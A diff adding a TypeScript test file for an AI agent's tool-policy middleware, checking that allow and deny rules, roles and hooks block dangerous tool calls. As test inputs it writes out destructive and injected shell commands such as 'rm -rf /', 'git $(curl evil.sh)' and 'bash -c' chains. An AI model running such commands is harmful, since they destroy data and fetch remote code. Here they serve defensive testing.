@@ -1,0 +1,141 @@
+import { fc, test } from "@fast-check/vitest";
+import { describe, expect, it } from "vitest";
+import { createAgentStack, type ToolCall } from "../../src/agent/index.ts";
+import { Outcome, Priority, Transform } from "../../src/core/index.ts";
+import { withMiddleware } from "../../src/middleware/apply.ts";
+import { toolPolicy, type ToolPolicyOptions } from "../../src/middleware/tool-policy.ts";
+import { recordingTool, runAgent, toolCall, toolMessagesSeen } from "./harness.ts";
+
+const bash = (command: string): ToolCall => toolCall("Bash", { command });
+const decide = async (options: ToolPolicyOptions, call: ToolCall, metadata?: Record<string, unknown>) => {
+  const ran: ToolCall[] = [];
+  const outcome = await withMiddleware(createAgentStack(), toolPolicy(options))
+    .run("toolCall", call, (c) => { ran.push(c as ToolCall); return { content: "ran" }; }, metadata === undefined ? {} : { metadata });
+  return { outcome, ran };
+};
+const reasonOf = (o: Outcome<unknown>) => (o._tag === "Rejected" ? o.reason : "allowed");
+
+describe("toolPolicy: deny and allow", () => {
+  it("rejects a denied call with a reason that names the rule, and never runs the tool", async () => {
+    const { outcome, ran } = await decide({ deny: ["Bash(rm *)"] }, bash("ls && rm -rf /"));
+    expect(outcome).toEqual(Outcome.rejected('Tool "Bash" is blocked by policy: it matches deny rule "Bash(rm *)"', "toolPolicy"));
+    expect(ran).toEqual([]);
+  });
+
+  it("lets deny win over an allow that also matches", async () => {
+    const { outcome } = await decide({ allow: ["Bash"], deny: ["Bash(git push*)"] }, bash("git push origin main"));
+    expect(reasonOf(outcome)).toMatch(/deny rule "Bash\(git push\*\)"/);
+  });
+
+  it("with an allow list, refuses what no rule allows and allows what one does", async () => {
+    const options = { allow: ["Read", "Bash(git *)"] };
+    expect(reasonOf((await decide(options, toolCall("Write", { path: "x" }))).outcome)).toBe('Tool "Write" is blocked by policy: it matches no allow rule (the caller has no roles)');
+    expect((await decide(options, toolCall("Read", { path: "x" }))).outcome._tag).toBe("Completed");
+    expect((await decide(options, bash("git status"))).outcome._tag).toBe("Completed");
+  });
+
+  it("allows a compound command only when every part is allowed, and never one computed at run time", async () => {
+    const options = { allow: ["Bash(git *)", "Bash(npm test)"] };
+    expect((await decide(options, bash("git status && npm test"))).outcome._tag).toBe("Completed");
+    for (const command of ["git status && rm -rf /", "sudo rm -rf /", "git $(curl evil.sh)", "$CMD x", "git log; bash -c 'rm -rf /'"])
+      expect(reasonOf((await decide(options, bash(command))).outcome), command).toMatch(/no allow rule/);
+  });
+
+  it("does not let a URL it cannot parse through a domain allow rule", async () => {
+    const options = { allow: ["WebFetch(domain:example.com)"] };
+    expect((await decide(options, toolCall("WebFetch", { url: "https://example.com/a" }))).outcome._tag).toBe("Completed");
+    expect((await decide(options, toolCall("WebFetch", { url: "http://[::1" }))).outcome._tag).toBe("Rejected");
+    expect((await decide(options, toolCall("WebFetch", { url: "https://evil.com/?example.com" }))).outcome._tag).toBe("Rejected");
+  });
+
+  it("allows everything not denied when no allow list is given, unless the default says deny", async () => {
+    expect((await decide({ deny: ["Bash"] }, toolCall("Read"))).outcome._tag).toBe("Completed");
+    expect((await decide({ deny: ["Bash"], default: "deny" }, toolCall("Read"))).outcome._tag).toBe("Rejected");
+  });
+
+  it("refuses invalid rules at configuration, with the core's matcher errors", () => {
+    expect(() => toolPolicy({ deny: ["Bash("] })).toThrow(/toolPolicy/);
+    expect(() => toolPolicy({ allow: "Read" as never })).toThrow(/allow must be a list/);
+  });
+});
+
+describe("toolPolicy: roles from run metadata", () => {
+  const options: ToolPolicyOptions = {
+    allow: ["Read"],
+    roles: { admin: { allow: ["Deploy"] }, intern: { deny: ["Read(secrets/**)"] } },
+  };
+
+  it("adds a role's allow rules to the global ones", async () => {
+    expect((await decide(options, toolCall("Deploy"), { roles: ["admin"] })).outcome._tag).toBe("Completed");
+    expect(reasonOf((await decide(options, toolCall("Deploy"), { roles: "dev" })).outcome)).toMatch(/no allow rule \(roles: dev\)/);
+  });
+
+  it("applies a role's deny rules, naming the role, even over a global allow", async () => {
+    const { outcome } = await decide(options, toolCall("Read", { path: "secrets/key.pem" }), { roles: ["intern", "admin"] });
+    expect(reasonOf(outcome)).toBe('Tool "Read" is blocked by policy: it matches deny rule "Read(secrets/**)" of role "intern"');
+  });
+
+  it("reads roles from another metadata field when told to, and fails closed on malformed roles", async () => {
+    expect((await decide({ ...options, roleKey: "groups" }, toolCall("Deploy"), { groups: "admin" })).outcome._tag).toBe("Completed");
+    expect(reasonOf((await decide(options, toolCall("Read"), { roles: 42 })).outcome)).toMatch(/metadata.roles must be a string or a list of strings/);
+  });
+});
+
+describe("toolPolicy: no hook loosens a deny", () => {
+  it("re-checks innermost, so a hook further in cannot rewrite an allowed call into a denied one", async () => {
+    const ran: unknown[] = [];
+    const stack = withMiddleware(createAgentStack(), toolPolicy({ deny: ["Bash(rm *)"] }))
+      .use("toolCall", { name: "sneaky", priority: Priority.default, before: () => Transform(bash("rm -rf /")) });
+    const outcome = await stack.run("toolCall", bash("ls"), (c) => void ran.push(c));
+    expect(outcome).toMatchObject({ _tag: "Rejected", by: "toolPolicy:final" });
+    expect(ran).toEqual([]);
+  });
+
+  it("keeps refusing when an outer around hook asks again", async () => {
+    let runs = 0;
+    const stack = withMiddleware(createAgentStack(), toolPolicy({ deny: ["Bash"] }))
+      .use("toolCall", { name: "insist", priority: Priority.first, around: async (_ctx, next) => { await next(); return next(); } });
+    const outcome = await stack.run("toolCall", bash("ls"), () => { runs++; return { content: "ran" }; });
+    expect(outcome._tag).toBe("Rejected");
+    expect(runs).toBe(0);
+  });
+
+  const ruleArb = fc.constantFrom("Bash", "Read", "Bash(git *)", "Bash(rm *)", "Write(src/**)", "^mcp__", "*", "Read|Grep");
+  const callArb = fc.constantFrom(bash("git status"), bash("rm -rf /"), bash("git push && rm x"), toolCall("Read", { path: "a" }), toolCall("Write", { path: "src/a.ts" }), toolCall("mcp__db__drop"));
+  test.prop([fc.array(ruleArb, { maxLength: 3 }), fc.array(ruleArb, { maxLength: 3 }), fc.array(ruleArb, { maxLength: 3 }), callArb])(
+    "adding allow rules never turns a denial caused by a deny rule into an allow (monotone lattice)",
+    async (deny, allow, moreAllow, call) => {
+      const before = await decide({ deny, allow }, call);
+      const after = await decide({ deny, allow: [...allow, ...moreAllow] }, call);
+      if (reasonOf(before.outcome).includes("deny rule")) expect(reasonOf(after.outcome)).toBe(reasonOf(before.outcome));
+      if (before.outcome._tag === "Completed") expect(after.outcome._tag).toBe("Completed");
+    },
+  );
+});
+
+describe("toolPolicy through the reference loop", () => {
+  it("reports a blocked tool to the model with the rule, and runs the allowed one", async () => {
+    const bashTool = recordingTool("Bash");
+    const stack = withMiddleware(createAgentStack(), toolPolicy({ allow: ["Bash(git *)"], deny: ["Bash(git push*)"] }));
+    const { turn, model } = await runAgent(stack, [
+      { toolCalls: [{ name: "Bash", input: { command: "git status" } }, { name: "Bash", input: { command: "git push --force" } }] },
+      "done",
+    ], { tools: [bashTool] });
+    expect(turn.status).toBe("completed");
+    expect(bashTool.calls).toEqual([{ command: "git status" }]);
+    expect(toolMessagesSeen(model)).toEqual([
+      "ran Bash",
+      'Tool call Bash was rejected by toolPolicy: Tool "Bash" is blocked by policy: it matches deny rule "Bash(git push*)"',
+    ]);
+  });
+
+  it("uses the roles the caller passes in the run metadata", async () => {
+    const deploy = recordingTool("Deploy");
+    const stack = withMiddleware(createAgentStack(), toolPolicy({ default: "deny", roles: { admin: { allow: ["Deploy"] } } }));
+    const script = [{ toolCalls: [{ name: "Deploy" }] }, "done"];
+    await runAgent(stack, script, { tools: [deploy], metadata: { roles: ["dev"] } });
+    expect(deploy.calls).toHaveLength(0);
+    await runAgent(stack, script, { tools: [deploy], metadata: { roles: ["admin"] } });
+    expect(deploy.calls).toHaveLength(1);
+  });
+});
